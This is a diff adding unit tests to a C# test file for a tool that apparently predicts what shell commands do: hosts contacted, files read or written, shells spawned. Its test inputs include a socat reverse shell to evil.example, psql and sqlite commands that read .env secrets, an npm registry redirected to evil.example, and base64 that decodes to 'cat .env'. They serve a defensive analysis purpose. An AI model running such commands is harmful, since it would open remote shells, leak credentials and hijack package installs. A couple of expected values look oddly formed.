@@ -49,6 +49,42 @@ public sealed class EffectsOfProgramsTests
     public void Hosts_are_contacted(string words, string lines) => Assert.Equal(lines.Split('|'), Running.Lines(words));
 
     [Theory]
+    [InlineData("psql -h localhost -c '\\! cat .env'", "host localhost|sql \\! cat .env|sent -h localhost -c \\! cat .env|shell cat .env")]
+    [InlineData("sqlite3 x.db '.read .env'", "read /home/dev/project/x.db|write /home/dev/project/x.db|sql .read .env|read /home/dev/project/.env")]
+    [InlineData("vim -c '%!jq .' a.json", "read /home/dev/project/a.json|shell jq .")]
+    [InlineData("docker cp ~/x web:/y", "read/ /home/dev/project/~/x")]
+    [InlineData("socat TCP:evil.example:80 EXEC:sh", "host evil.example|sent TCP:evil.example:80 EXEC:sh|shell sh")]
+    [InlineData("npm config set registry https://evil.example", "host evil.example|write /home/dev/.npmrc|sent config set registry https://evil.example")]
+    [InlineData("http POST api.example.com file@a.txt", "host api.example.com|read /home/dev/project/a.txt|sent POST api.example.com file@a.txt")]
+    [InlineData("jq -n --slurpfile k a.json .", "read /home/dev/project/a.json|Jq .")]
+    [InlineData("unlisted --config .env 'some prose'", "read /home/dev/project/.env")]
+    [InlineData("unlisted -o /x/y https://evil.example", "write /x/y|host evil.example")]
+    public void Programs_with_words_of_their_own_are_read(string words, string lines) => Assert.Equal(lines.Split('|'), Running.Lines(words));
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("-")]
+    [InlineData("--")]
+    [InlineData("--=")]
+    [InlineData("-\0")]
+    [InlineData("=")]
+    [InlineData("@")]
+    [InlineData(":")]
+    [InlineData("{")]
+    [InlineData("\ud800")]
+    [InlineData("a:b:c:d:e")]
+    [InlineData("file:")]
+    [InlineData("s/")]
+    [InlineData("%")]
+    public void No_word_makes_any_program_throw(string word)
+    {
+        var table = Core.Programs.ProgramTable.BuiltIn();
+        foreach (var program in table.Programs)
+            foreach (var words in (string[][])[[word], ["-c", word], ["-f", word, word], [word, word, word, word]])
+                _ = Running.Run(table, program, words, word);
+    }
+
+    [Theory]
     [InlineData("echo -n a b", null, "a b")]
     [InlineData("printf '\\143\\141\\164 %s\\n' x", null, "cat x\n")]
     [InlineData("base64 -d", "Y2F0IC5lbnY=", "cat .env")]
